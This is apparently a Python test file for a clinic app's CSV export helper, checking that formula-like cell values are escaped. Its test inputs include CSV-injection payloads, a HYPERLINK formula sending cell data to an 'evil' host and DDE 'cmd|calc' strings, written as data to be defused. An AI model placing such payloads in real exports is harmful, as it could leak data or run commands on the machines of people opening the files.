"""Nothing a stranger wrote runs as a formula in a table, and everything that is none comes back as it was."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import datetime, timedelta, timezone

import pytest
from hypothesis import given
from hypothesis import strategies as st

from clinic_app.foundation.spreadsheet import FORMULA_SIGNS, SEPARATOR, cell, csv_lines, is_formula


def _read(data: bytes) -> list[list[str]]:
    text = data.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=SEPARATOR))


@pytest.mark.parametrize(
    "words",
    [
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "\uff1d1+1",
        "\uff0b1",
        "\uff0d1",
        "\uff20x",
        " =1",
        "\u00a0=1",
        "\u200b=1",
        "\ufeff=1",
        "  \u202e@x",
        '=HYPERLINK("http://evil/?"&A1;"Жалғасы")',
        "=cmd|' /C calc'!A0",
        "|calc",
        "%0A",
        "\u22121",
    ],
)
def test_a_formula_becomes_words(words: str) -> None:
    assert is_formula(words)
    assert cell(words).startswith("'")
    assert cell(words).replace("'", "") == words.replace("'", "")


@pytest.mark.parametrize("words", ["", "Қасымов", "a=1", "2026-03-05", "№ 7", "'=1", "(1)", "“=1”", "Ө-А"])
def test_plain_words_stay_as_they_are(words: str) -> None:
    assert not is_formula(words)
    assert cell(words) == words


def test_numbers_and_moments_are_no_formulas_even_below_zero() -> None:
    assert cell(-5) == "-5"
    assert cell(-0.5) == "-0.5"
    assert cell(None) == ""
    almaty = timezone(timedelta(hours=5))
    assert cell(datetime(2026, 3, 5, 12, 0, 1, tzinfo=almaty)) == "2026-03-05 07:00:01"


def test_a_zero_byte_does_not_end_the_file() -> None:
    assert cell("a\0b") == "ab"
    assert cell("\0=1") == "'=1"


@given(st.lists(st.lists(st.text(), min_size=1, max_size=4), max_size=5))
def test_no_cell_of_any_table_begins_like_a_formula_and_none_is_split(rows: list[list[str]]) -> None:
    read = _read(b"".join(csv_lines(rows)))
    assert len(read) == len(rows)
    for row, back in zip(rows, read, strict=True):
        assert len(back) == len(row)
        for words, found in zip(row, back, strict=True):
            assert found[:1] not in FORMULA_SIGNS or not found
            assert found.lstrip()[:1] not in FORMULA_SIGNS or not found.lstrip()
            sent = words.replace("\0", "").encode("utf-8", "replace").decode()
            assert found.replace("'", "") == sent.replace("'", "")
            assert len(found) >= len(sent)


@pytest.mark.parametrize(
    ("words", "kept"),
    [
        ("Асқар,=cmd|'/C calc'!A0,x", "Асқар,'=cmd|'/C calc'!A0,x"),
        ('a; "@SUM(A1)', "a;' \"@SUM(A1)"),
        ("a\t+1", "a\t'+1"),
        ("бірінші\n=1", "бірінші\n'=1"),
        ("=1,-2", "'=1,'-2"),
        ("a, b; c", "a, b; c"),
        ("a=1, b", "a=1, b"),
    ],
)
def test_a_program_that_cuts_at_another_separator_finds_no_formula_either(words: str, kept: str) -> None:
    assert cell(words) == kept


@given(st.text(alphabet="аb=+-@,;'\" \t", max_size=12), st.sampled_from(",;\t"))
def test_whatever_separator_a_program_expects_no_piece_is_a_formula(words: str, separator: str) -> None:
    first, *others = cell(words).split(separator)
    assert not is_formula(first)
    assert not any(is_formula(piece.lstrip('"')) for piece in others)


def test_a_long_table_is_never_in_memory_as_a_whole() -> None:
    made = [0]

    def rows() -> Iterator[tuple[int, str]]:
        for number in range(1_000_000):
            made[0] = number
            yield number, "x"

    lines = csv_lines(rows())
    for _ in range(4):
        next(lines)
    assert made[0] == 2


def test_it_begins_with_the_mark_that_tells_a_spreadsheet_its_letters() -> None:
    assert b"".join(csv_lines([("Қ", 1)])) == b"\xef\xbb\xbf" + '"Қ";"1"\r\n'.encode()
